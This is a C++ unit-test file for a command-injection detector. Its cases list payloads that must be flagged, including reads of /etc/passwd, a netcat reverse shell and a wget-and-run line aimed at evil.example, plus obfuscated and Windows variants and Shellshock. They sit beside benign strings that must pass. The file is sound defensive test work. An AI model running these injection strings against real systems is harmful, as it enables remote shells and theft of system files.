#include <string>

#include <gtest/gtest.h>

#include "core/detect/input/input_detector.hpp"

namespace vigil::detect::input {
namespace {

bool fires(std::string_view value, Hit* out = nullptr, Form form = Form::kRaw,
           std::string_view name = "q") {
  Candidate c{value, features_of(value), form, 0, Source::kQuery, name};
  Hit hit;
  bool r = detect_cmdi(c, &hit);
  if (out != nullptr) *out = hit;
  return r;
}

TEST(CmdiInput, SeparatorsAfterAnArgument) {
  Hit hit;
  EXPECT_TRUE(fires("8.8.8.8; id", &hit));
  EXPECT_NE(hit.reason.find("id"), std::string::npos) << hit.reason;
  EXPECT_FALSE(hit.evidence.empty());
  EXPECT_TRUE(fires("127.0.0.1 && whoami"));
  EXPECT_TRUE(fires("x || cat /etc/passwd"));
  EXPECT_TRUE(fires("file.txt | nc evil.example 4444"));
  EXPECT_TRUE(fires("a\nuname -a"));
  EXPECT_TRUE(fires("a & ping -n 5 127.0.0.1 &"));
  EXPECT_TRUE(fires(";ls -la"));
  EXPECT_TRUE(fires("|id"));
}

TEST(CmdiInput, Substitutions) {
  EXPECT_TRUE(fires("$(id)"));
  EXPECT_TRUE(fires("`whoami`"));
  EXPECT_TRUE(fires("report-$(cat /etc/passwd).pdf"));
  EXPECT_TRUE(fires("x`sleep 5`y"));
}

TEST(CmdiInput, QuotedArgumentsBrokenOut) {
  // Inside a double- or single-quoted argument.
  EXPECT_TRUE(fires("\"; cat /etc/passwd; \""));
  EXPECT_TRUE(fires("'; whoami; '"));
  EXPECT_TRUE(fires("x' && wget http://evil.example/s.sh -O /tmp/s && sh /tmp/s #"));
}

TEST(CmdiInput, Obfuscations) {
  EXPECT_TRUE(fires(";w'h'o'am'i"));
  EXPECT_TRUE(fires(";c$@at /etc/passwd"));
  EXPECT_TRUE(fires(";cat${IFS}/etc/passwd"));
  EXPECT_TRUE(fires(";{cat,/etc/passwd}"));
  EXPECT_TRUE(fires(";/usr/bin/id"));
  EXPECT_TRUE(fires(";/?\?\?/?\?t /?\?\?/p?\?s?\?"));
  EXPECT_TRUE(fires("a;CMD=$'id';$CMD"));
}

TEST(CmdiInput, WindowsCommands) {
  EXPECT_TRUE(fires("& dir C:\\"));
  EXPECT_TRUE(fires("| type C:\\Windows\\win.ini"));
  EXPECT_TRUE(fires("& net user"));
  EXPECT_TRUE(fires("| powershell -enc SQBFAFgA"));
  EXPECT_TRUE(fires("&& C:\\Windows\\System32\\cmd.exe /c whoami"));
}

TEST(CmdiInput, WholeValueCommands) {
  // system($value): a distinctive program name is a command line on its own; English words
  // (cat, type, sleep) need arguments only a command line has.
  EXPECT_TRUE(fires("whoami"));
  EXPECT_TRUE(fires("cat /etc/passwd"));
  EXPECT_TRUE(fires("C:\\Windows\\System32\\cmd.exe /c dir"));
  EXPECT_TRUE(fires("x; C:/tools/nc.exe -e cmd.exe evil.example 4444"));
  EXPECT_FALSE(fires("cat"));
  EXPECT_FALSE(fires("Type /help for the list"));
  EXPECT_FALSE(fires("sleep is good for you"));
}

TEST(CmdiInput, WindowsCaretEscapes) {
  // cmd.exe drops its escape character: w^h^o^a^m^i runs whoami.
  EXPECT_TRUE(fires("x & w^h^o^a^m^i"));
  EXPECT_TRUE(fires("^cat /etc/passwd"));
  EXPECT_FALSE(fires("x^2 + y^2 = z^2"));
  EXPECT_FALSE(fires("^_^ nice one"));
}

TEST(CmdiInput, InputRedirectionProbes) {
  Hit hit;
  EXPECT_TRUE(fires("<cat /etc/passwd", &hit));
  EXPECT_NE(hit.reason.find("cat /etc/passwd"), std::string::npos) << hit.reason;
  EXPECT_TRUE(fires("<id"));
  EXPECT_TRUE(fires("<id\r\n"));
  // Markup and placeholders.
  EXPECT_FALSE(fires("<b>bold</b>"));
  EXPECT_FALSE(fires("<ls -la>"));
  EXPECT_FALSE(fires("<identity>"));
  EXPECT_FALSE(fires("<catalog item=\"1\"/>"));
}

TEST(CmdiInput, DanglingOperators) {
  Hit hit;
  EXPECT_TRUE(fires("|", &hit));
  EXPECT_NE(hit.reason.find("'|'"), std::string::npos) << hit.reason;
  EXPECT_TRUE(fires("|| "));
  EXPECT_TRUE(fires("&&"));
  EXPECT_TRUE(fires("85|"));  // Perl's open() runs "85|" as a command
  EXPECT_TRUE(fires("Credenciales incorrectas|"));
  EXPECT_FALSE(fires("&"));
  EXPECT_FALSE(fires("| name | id |"));  // a table row
  EXPECT_FALSE(fires("Tom &&"));
  EXPECT_FALSE(fires("~ ~ |\\/ o\\/o \\/|"));  // ASCII art
  EXPECT_FALSE(fires("one two three four five six|"));
}

TEST(CmdiInput, OtherInterpreters) {
  EXPECT_TRUE(fires("() { :; }; /bin/bash -c 'id'"));  // Shellshock
  EXPECT_TRUE(fires("system('id')"));
  EXPECT_TRUE(fires("{${system(id)}}"));
}

TEST(CmdiInput, ProseWithSeparatorsStaysClean) {
  EXPECT_FALSE(fires("Tom & Jerry"));
  EXPECT_FALSE(fires("rock & roll; jazz"));
  EXPECT_FALSE(fires("salt | pepper"));
  EXPECT_FALSE(fires("O'Brien; it's late"));
  EXPECT_FALSE(fires("I don't know; let's see what happens"));
  EXPECT_FALSE(fires("Q&A session; bring questions"));
  EXPECT_FALSE(fires("Note: the cat sat on the mat; the dog slept"));
  EXPECT_FALSE(fires("Type your name; then press enter"));
  EXPECT_FALSE(fires("who am i? | a question"));
  EXPECT_FALSE(fires("Prices: $5 & up"));
  EXPECT_FALSE(fires("a < b && c > d"));
  EXPECT_FALSE(fires("sleep well; see you tomorrow"));
  EXPECT_FALSE(fires("ping me at 10:30 / after lunch"));
  EXPECT_FALSE(fires("echo chamber; social media"));
}

TEST(CmdiInput, CommandsQuotedInProse) {
  // Markdown code spans and Makefile notes: a substitution between words of a sentence.
  EXPECT_FALSE(fires("Type `ls -la` to list the files"));
  EXPECT_FALSE(fires("Use $(pwd) in the Makefile to get the current directory"));
  EXPECT_FALSE(fires("Run `make install` to install the binaries."));
  // Glued to the value, or followed by more shell: a payload.
  EXPECT_TRUE(fires("a`id`b"));
  EXPECT_TRUE(fires("Type `ls -la`"));
  EXPECT_TRUE(fires("x `id` | nc evil.example 80"));
}

TEST(CmdiInput, DocsAndCodeStayClean) {
  EXPECT_FALSE(fires("To install, read the README and the FAQ; then run make."));
  EXPECT_FALSE(fires("The function returns x; callers check it"));
  EXPECT_FALSE(fires("if (a && b) { return 1; }"));
  EXPECT_FALSE(fires("for (i = 0; i < n; i++) sum += a[i];"));
  EXPECT_FALSE(fires("SELECT name FROM users WHERE id = 1;"));
  EXPECT_FALSE(fires("std::vector<int> v; v.push_back(1);"));
  EXPECT_FALSE(fires("$HOME/bin"));
  EXPECT_FALSE(fires("Costs $(USD) 5"));
}

TEST(CmdiInput, EveryDayValuesStayClean) {
  EXPECT_FALSE(fires("bob@example.com"));
  EXPECT_FALSE(fires("https://example.com/a?b=c&d=e"));
  EXPECT_FALSE(fires("id"));
  EXPECT_FALSE(fires("ls"));
  EXPECT_FALSE(fires("cat"));
  EXPECT_FALSE(fires("dir"));
  EXPECT_FALSE(fires("42"));
  EXPECT_FALSE(fires("2024-01-01"));
  EXPECT_FALSE(fires("C:\\Users\\bob\\Documents\\report.docx"));
  EXPECT_FALSE(fires("/usr/share/doc/README"));
  // Product tokens and routes that end in a command's name are names, not programs.
  EXPECT_FALSE(fires("vigil-e2e/ping"));
  EXPECT_FALSE(fires("HealthChecker/ping 1.0"));
  EXPECT_FALSE(fires("tools/ls -la"));
  EXPECT_TRUE(fires("/bin/ping -c 3 127.0.0.1"));
  EXPECT_TRUE(fires("../../bin/cat /etc/passwd"));
}

TEST(CmdiInput, UrlQueryParameters) {
  Hit hit;
  EXPECT_TRUE(fires("https://shop.example/search?q=x%3B+cat+%2Fetc%2Fpasswd&p=2", &hit));
  EXPECT_NE(hit.reason.find("parameter"), std::string::npos) << hit.reason;
  EXPECT_TRUE(fires("https://shop.example/search?q=%250A%2Bdir%2Bc%3A%5C"));  // encoded twice
  // The parameters are split where the URL was written: a decoded form would cut this quoted
  // one-liner at its "&&" and lose the sentence around it.
  const char* fortune =
      "https://shop.example/search?q=last%7Cperl+-pe+%27%24_+x%3D%2F(..%3A..)%2F%26%26%22%27%241"
      "%27%22ge%241%27+That%27s+gonna+be+tough+for+Randal+to+beat...+--+Larry+Wall";
  EXPECT_FALSE(fires(fortune));
  EXPECT_FALSE(fires("https://shop.example/search?q=last|perl -pe '$_ x=/(..:..)/&&\"'$1'\"ge$1'"
                     " That's gonna be tough for Randal to beat... -- Larry Wall",
                     nullptr, Form::kUrlDecoded));
}

TEST(CmdiInput, LongValuesStayLinear) {
  std::string v;
  while (v.size() < (1u << 20)) v += "a; b | c & ";
  fires(v);  // must finish; the verdict does not matter
  std::string w(1 << 20, '`');
  fires(w);
  std::string x(1 << 20, '(');
  x.insert(0, 1, '$');  // "$((((...": in place (GCC 12 misreads a "$" + x under LTO as an overflow)
  fires(x);
}

}  // namespace
}  // namespace vigil::detect::input
